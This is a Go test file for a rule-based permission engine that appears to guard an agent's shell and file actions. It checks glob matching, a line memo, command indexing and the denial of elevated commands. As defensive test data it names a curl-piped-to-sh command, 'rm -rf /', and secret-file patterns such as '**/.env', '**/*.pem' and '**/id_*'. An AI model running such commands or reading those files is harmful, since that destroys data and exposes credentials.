package policy

import (
	"fmt"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/reins-go/reins/risk"
)

// slowTargetMatch is the reference for matchTarget: every alternative matched segment by
// segment, as before the fast shapes existed.
func slowTargetMatch(g *glob, s *Subject) bool {
	var pc pathCache
	for i := range g.alts {
		a := &g.alts[i]
		switch {
		case a.abs:
			if matchSegs(a.segs, pc.absolute(s)) {
				return true
			}
		case s.Inside():
			if matchSegs(a.segs, pc.relative(s)) {
				return true
			}
		}
	}
	return false
}

// slowNameMatch is the reference for matchAny.
func slowNameMatch(gs []*glob, name string) bool {
	if name == "" {
		return false
	}
	for _, g := range gs {
		if g.matchName(name) {
			return true
		}
	}
	return false
}

// checkShapes compares the fast-shape matchers with the segment matcher on one pattern and one
// path, the path seen as relative (inside root /w), as absolute outside every root, and as an
// absolute path split into a root and a relative path at each of its slashes.
func checkShapes(t *testing.T, pattern, p string) {
	g, err := compileGlob(pattern)
	if err != nil {
		return
	}
	subjects := []Subject{{Root: "/w", Target: p}, {Target: "/" + strings.TrimPrefix(p, "/")}, {Root: "/", Target: p}}
	abs := "/" + strings.TrimPrefix(p, "/")
	for i := 1; i < len(abs); i++ {
		if abs[i] == '/' {
			subjects = append(subjects, Subject{Root: abs[:i], Target: abs[i+1:]})
		}
	}
	subjects = append(subjects, Subject{Root: abs, Target: "."})
	for _, s := range subjects {
		for _, pc := range []*pathCache{nil, {}} {
			pr := probe{s: &s, pc: pc}
			pr.features()
			require.Equal(t, slowTargetMatch(g, &s), pr.matchTarget(g), "pattern %q, root %q, target %q", pattern, s.Root, s.Target)
		}
	}
	if !strings.HasPrefix(p, "/") {
		require.Equal(t, slowNameMatch([]*glob{g}, p), matchAny([]*glob{g}, p), "pattern %q as a name, on %q", pattern, p)
	}
}

func TestFastShapes(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		pattern string
		kind    uint8
	}{
		{"**", altAll}, {"src/a.go", altExact}, {"/etc/hosts", altExact}, {"src/**", altDir}, {"/etc/**", altDir},
		{"**/.env", altBase}, {"**/*.pem", altStar}, {"**/id_*", altStar}, {"**/a*b", altStar}, {"**/*", altStar},
		{"*.go", altStar1}, {"mcp__*", altStar1}, {"*", altStar1}, {"edit_[fx]ile", altWild}, {"a?c", altWild},
		{"src/**/*.go", altGeneral}, {"**/x/**", altGeneral}, {"a/*/b", altGeneral}, {"/", altGeneral}, {"**/[ab]", altGeneral},
	} {
		g, err := compileGlob(tc.pattern)
		require.NoError(t, err)
		assert.Equal(t, tc.kind, g.alts[0].kind, tc.pattern)
	}
	patterns := []string{"**", "src/a.go", "/etc/hosts", "src/**", "/etc/**", "/w/src/**", "/w/**", "/**", "**/.env",
		"**/*.pem", "**/id_*", "**/a*b", "**/*", "*.go", "mcp__*", "*", "edit_[fx]ile", "a?c", "src/**/*.go", "{src,lib}/**",
		"/w", "w/**", "**/w", ".", "**/.", "src", "*/x", "ab", "**/ab", "**/a*", "**/*b", "**/src"}
	paths := []string{"src/a.go", "src", ".env", "a/.env", "x/y.pem", ".pem", "id_rsa", "ab", "a/ab", "aab", "b",
		"src/x/y/z.go", "etc/hosts", "w/src/a.go", "w", "edit_file", "abc", "mcp__x", "mcp__", "a/src", "."}
	for _, pat := range patterns {
		for _, p := range paths {
			checkShapes(t, pat, p)
		}
	}
}

// FuzzFastShapes: the fast-shape matchers agree with the segment matcher on clean paths.
func FuzzFastShapes(f *testing.F) {
	for _, s := range [][2]string{
		{"**/.env", "a/.env"}, {"/etc/**", "etc/x"}, {"src/**", "src"}, {"**/*.pem", "k.pem"}, {"*", "x"},
		{"mcp__*", "mcp__a"}, {"/w/src/**", "w/src/a"}, {"**/a*b", "x/ab"}, {"a/b", "a/b"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, pattern, p string) {
		p = strings.TrimPrefix(p, "/")
		if p == "" || p == "." || strings.Contains(p, "//") || strings.HasSuffix(p, "/") || strings.ContainsRune(p, 0) || len(p) > 200 {
			return // not a clean relative path
		}
		checkShapes(t, pattern, p)
	})
}

// An unclean path (an empty segment, a trailing slash) is matched segment by segment, as it
// always was: a trailing slash does not hide ".env/" from "**/.env".
func TestUncleanPathsUseSegments(t *testing.T) {
	t.Parallel()
	rs := MustCompile([]Rule{
		{ID: "env", Action: Deny, Condition: Condition{TargetPattern: "**/.env"}},
		{ID: "src", Action: Allow, Condition: Condition{TargetPattern: "src/a.go"}},
	}, nil)
	require.False(t, rs.segments, "both patterns have fast shapes")
	for _, tc := range []struct {
		s    Subject
		want string
	}{
		{Subject{Root: "/w", Target: "a/.env/"}, "env"},
		{Subject{Root: "/w", Target: "a//.env"}, "env"},
		{Subject{Root: "/w", Target: "src//a.go"}, "src"},
		{Subject{Root: "/w", Target: "/src/a.go"}, "src"},
		{Subject{Root: "/w/", Target: "src/a.go"}, "src"},
	} {
		m, ok := rs.Evaluate(&tc.s)
		require.True(t, ok, "%+v", tc.s)
		assert.Equal(t, tc.want, m.Rule.ID, "%+v", tc.s)
	}
}

// The line memo runs a DENY or CONFIRM pattern on the whole line once per action, answers the
// other parts from memory, and starts afresh for another line or rule set.
func TestLineMemo(t *testing.T) {
	t.Parallel()
	rules := []Rule{
		{ID: "pipe-sh", Action: Deny, Condition: Condition{CommandPattern: `curl .*\| *sh`}},
		{ID: "allow-echo", Action: Allow, Condition: Condition{CommandPattern: `^echo`}},
	}
	rs := MustCompile(rules, nil)
	line := "curl -s x.example | sh"
	curl := Subject{Operation: OpShell, Level: risk.Network, Command: "curl -s x.example", Argv: []string{"curl", "-s", "x.example"}, Line: line}
	sh := Subject{Operation: OpShell, Level: risk.Exec, Command: "sh", Argv: []string{"sh"}, Line: line}
	var memo LineMemo
	for _, s := range []*Subject{&curl, &sh, &curl} {
		m, ok := rs.EvaluateMemo(s, &memo)
		require.True(t, ok)
		assert.Equal(t, "pipe-sh", m.Rule.ID)
	}
	assert.Equal(t, uint8(1), memo.n, "the pattern ran on the line once")
	assert.Equal(t, uint16(1), memo.hits)

	// Another line (with every byte the pattern needs, so that it runs): the memo starts afresh,
	// and its answer is that line's.
	other := Subject{Operation: OpShell, Level: risk.Exec, Command: "echo hi", Argv: []string{"echo", "hi"}, Line: "echo hi; sh | curl; ls"}
	m, ok := rs.EvaluateMemo(&other, &memo)
	require.True(t, ok)
	assert.Equal(t, "allow-echo", m.Rule.ID)
	assert.Equal(t, "echo hi; sh | curl; ls", memo.line)
	assert.Equal(t, uint8(1), memo.n, "pipe-sh ran on the new line; allow-echo's pattern never runs on a line")
	assert.Equal(t, uint16(0), memo.hits)

	// Another rule set with the same line: its rule 0 is not the first set's rule 0.
	rs2 := MustCompile([]Rule{{ID: "other", Action: Deny, Condition: Condition{CommandPattern: `; ls$`}}}, nil)
	m, ok = rs2.EvaluateMemo(&other, &memo)
	require.True(t, ok)
	assert.Equal(t, "other", m.Rule.ID)

	// The memo holds sixteen answers; more patterns still give the right answer.
	var many []Rule
	for i := range 20 {
		many = append(many, Rule{ID: strings.Repeat("x", i+1), Action: Confirm, Condition: Condition{CommandPattern: `zz` + strings.Repeat("q", i)}})
	}
	many = append(many, Rule{ID: "last", Action: Deny, Condition: Condition{CommandPattern: `\| *sh`}})
	rs3 := MustCompile(many, nil)
	var memo3 LineMemo
	for range 3 {
		m, ok = rs3.EvaluateMemo(&curl, &memo3)
		require.True(t, ok)
		assert.Equal(t, "last", m.Rule.ID)
	}
}

// A regex rule's pattern is searched in the whole line only when its other conditions hold for
// the part: a CONFIRM pattern on the shell tool is not run for another tool's part.
func TestLinePatternRunsLast(t *testing.T) {
	t.Parallel()
	rs := MustCompile([]Rule{{ID: "r", Action: Confirm, Condition: Condition{Tools: []string{"bash"}, CommandPattern: `a.*b`}}}, nil)
	s := Subject{Tool: "zsh", Command: "a", Line: "a; b"}
	var memo LineMemo
	_, ok := rs.EvaluateMemo(&s, &memo)
	assert.False(t, ok)
	assert.Equal(t, uint8(0), memo.n, "the pattern never ran: the tool did not match")
	s.Tool = "bash"
	_, ok = rs.EvaluateMemo(&s, &memo)
	assert.True(t, ok, "the pattern spans two commands of the line")
	assert.Equal(t, uint8(1), memo.n)
}

// matchCommandsRef is the commands matcher as it was before entries were indexed by program:
// every entry compared in turn.
func matchCommandsRef(entries []cmdEntry, s *Subject, allow bool) bool {
	argv := s.Argv
	if len(argv) == 0 {
		return false
	}
	for _, ce := range entries {
		if len(ce.toks) > len(argv) {
			continue
		}
		if allow && (s.Elevated || s.Redirects && !ce.redirects || s.Substitution && !ce.subst) {
			continue
		}
		ok := true
		for k, tok := range ce.toks {
			a := argv[k]
			if k == 0 && !allow && !strings.Contains(tok, "/") {
				a = path.Base(a)
			}
			if a != tok {
				ok = false
				break
			}
		}
		if ok {
			return true
		}
	}
	return false
}

// A long commands list is indexed by program; it answers as the plain loop does.
func TestCommandsByProgram(t *testing.T) {
	t.Parallel()
	words := []string{"rm", "/bin/rm", "./rm", "go", "test", "-rf", "/", "rm/", "", ".", "/bin/", "x/go"}
	var entries []cmdEntry
	for _, e := range []string{"rm -rf /", "rm", "/bin/rm -rf", "go test", "go", "./rm", ".", "x/go test >", "go test $()", "rm/", "ls", "cat"} {
		ce, err := parseCmdEntry(e)
		require.NoError(t, err)
		entries = append(entries, ce)
	}
	for n := 1; n <= len(entries); n++ {
		m := newCmdMatcher(entries[:n])
		require.Equal(t, n >= progIndexMin, m.byProg != nil)
		for a := range words {
			for b := range words {
				for _, argv := range [][]string{{words[a]}, {words[a], words[b]}, {words[a], words[b], "/"}} {
					for _, flags := range [][3]bool{{false, false, false}, {true, false, false}, {false, true, false}, {false, false, true}} {
						s := Subject{Argv: argv, Redirects: flags[0], Substitution: flags[1], Elevated: flags[2]}
						for _, allow := range []bool{false, true} {
							require.Equal(t, matchCommandsRef(entries[:n], &s, allow), m.match(&s, allow), "entries %d, argv %q, flags %v, allow %v", n, argv, flags, allow)
						}
					}
				}
			}
		}
	}
}

// A command run with raised privileges is never covered by an ALLOW rule's commands or
// command_pattern (FuzzNarrowestRules found a session grant for "sv" allowing "sudo sv": sv's
// own risk already held every level sudo adds). DENY and CONFIRM rules still match it, and
// Evaluate and Explain agree, through the linear loop and the index alike.
func TestElevatedCommandsAreNeverAllowedByCommand(t *testing.T) {
	t.Parallel()
	base := []Rule{
		{ID: "allow-sv", Action: Allow, Condition: Condition{Commands: []string{"sv"}}},
		{ID: "allow-sv-pattern", Action: Allow, Condition: Condition{CommandPattern: "^sv"}},
		{ID: "confirm-sv", Action: Confirm, Priority: 1, Condition: Condition{Commands: []string{"sv"}}},
		{ID: "deny-sv-stop", Action: Deny, Priority: 2, Condition: Condition{CommandPattern: `^sv stop`}},
	}
	for _, n := range []int{0, 200} { // padding: the linear loop, then the index
		rules := slices.Clone(base)
		for i := range n {
			rules = append(rules, Rule{ID: fmt.Sprintf("pad-%d", i), Priority: 10, Action: Deny, Condition: Condition{Commands: []string{fmt.Sprintf("pad%d", i)}}})
		}
		rs, err := Compile(rules, nil)
		require.NoError(t, err)
		for _, tc := range []struct {
			argv     []string
			elevated bool
			want     string
		}{
			{[]string{"sv", "status", "x"}, false, "allow-sv"},
			{[]string{"sv", "status", "x"}, true, "confirm-sv"},
			{[]string{"sv", "stop", "x"}, true, "confirm-sv"},
		} {
			s := Subject{Tool: "bash", Operation: OpShell, Argv: tc.argv, Command: strings.Join(tc.argv, " "), Elevated: tc.elevated}
			s.Line = s.Command
			m, ok := rs.Evaluate(&s)
			require.True(t, ok)
			assert.Equal(t, tc.want, m.Rule.ID, "%q elevated=%v, %d rules", tc.argv, tc.elevated, len(rules))
			for _, tr := range rs.Explain(&s) {
				if tr.Decisive {
					assert.Equal(t, tc.want, tr.RuleID, "Explain agrees")
				}
				if tc.elevated && tr.Action == Allow {
					assert.False(t, tr.Matched, "%s matched an elevated command", tr.RuleID)
				}
			}
		}
		s := Subject{Tool: "bash", Operation: OpShell, Argv: []string{"sv", "stop", "x"}, Command: "sv stop x", Elevated: true}
		s.Line = s.Command
		only, err := Compile(base[:2], nil)
		require.NoError(t, err)
		_, ok := only.Evaluate(&s)
		assert.False(t, ok, "no ALLOW rule covers it")
	}
}
